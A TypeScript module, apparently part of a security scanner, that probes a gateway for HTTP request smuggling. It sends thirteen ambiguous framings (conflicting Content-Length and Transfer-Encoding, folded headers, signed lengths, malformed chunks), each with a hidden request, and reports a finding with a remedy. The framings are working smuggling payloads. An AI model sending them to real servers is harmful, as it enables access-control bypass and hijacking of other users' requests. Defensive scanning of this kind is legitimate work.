import type { Attack, AttackExchange } from '#contract';
import { pathOf, received } from '../requests.ts';

/**
 * Framings of a message that different servers interpret differently. `#` is replaced with the embedded request, `%`
 * with its length.
 */
const framings: readonly (readonly [name: string, headers: readonly string[], body: string])[] = [
  ['Content-Length and Transfer-Encoding', ['Content-Length: %', 'Transfer-Encoding: chunked'], '0\r\n\r\n#'],
  [
    'a Transfer-Encoding with a space before the colon',
    ['Content-Length: %', 'Transfer-Encoding : chunked'],
    '0\r\n\r\n#',
  ],
  ['a Transfer-Encoding other than chunked', ['Content-Length: %', 'Transfer-Encoding: xchunked'], '0\r\n\r\n#'],
  ['two values of Transfer-Encoding', ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'], '0\r\n\r\n#'],
  ['a Transfer-Encoding after a tab', ['Content-Length: %', 'Transfer-Encoding:\tchunked'], '0\r\n\r\n#'],
  ['a folded Transfer-Encoding', ['Content-Length: %', 'Transfer-Encoding:\r\n chunked'], '0\r\n\r\n#'],
  ['two different lengths', ['Content-Length: 5', 'Content-Length: %'], '0\r\n\r\n#'],
  ['a length with a sign', ['Content-Length: +5'], '0\r\n\r\n#'],
  ['a list of lengths', ['Content-Length: 5, %'], '0\r\n\r\n#'],
  ['a header name after a vertical tab', ['Content-Length: %', '\vTransfer-Encoding: chunked'], '0\r\n\r\n#'],
  ['a chunk size with a sign', ['Transfer-Encoding: chunked'], '+0\r\n\r\n#'],
  ['a chunk that ends with a line feed only', ['Transfer-Encoding: chunked'], '1\nA\n0\n\n#'],
  ['a carriage return within a header', ['X-Attack: a\rTransfer-Encoding: chunked', 'Content-Length: %'], '0\r\n\r\n#'],
];

export const requestSmuggling: Attack = {
  name: 'request-smuggling',
  severity: 'CRITICAL',
  title: 'Ambiguous framing hides a second request in the body of the first',
  description:
    'Sends requests whose length servers determine differently: Content-Length with Transfer-Encoding, repeated and malformed lengths, folded headers, bare carriage returns, malformed chunks. A finding is a response to a request that is hidden in the body, or a backend that receives the hidden request or both headers.',
  once: true,
  applies: () => true,
  async run({ baseline, marker, write }) {
    const path = pathOf(baseline);
    const hidden = `GET /${marker} HTTP/1.1\r\nHost: localhost\r\n\r\n`;
    const host = baseline.headers.find(([name]) => name === 'Host')?.[1] ?? 'localhost';
    for (const [name, headers, body] of framings) {
      const content = body.replace('#', hidden);
      const lines = headers.map((line) => `${line.replace('%', String(content.length))}\r\n`).join('');
      const bytes = `POST ${path} HTTP/1.1\r\nHost: ${host}\r\n${lines}\r\n${content}`;
      if (!isSmuggled(await write(bytes), marker)) continue;
      return [
        {
          shown: `The gateway processed a request that was hidden in the body of a message with ${name}.`,
          remedy: 'Remove the component that accepts such messages, or put a server in front that rejects them.',
          requests: [bytes],
        },
      ];
    }
    return [];
  },
};

function isSmuggled({ responses, calls }: AttackExchange, marker: string): boolean {
  const isBoth = calls.some(
    (call) => received(call, 'transfer-encoding').length > 0 && received(call, 'content-length').length > 0,
  );
  return isBoth || responses.length > 1 || calls.some(({ url }) => url.includes(marker));
}
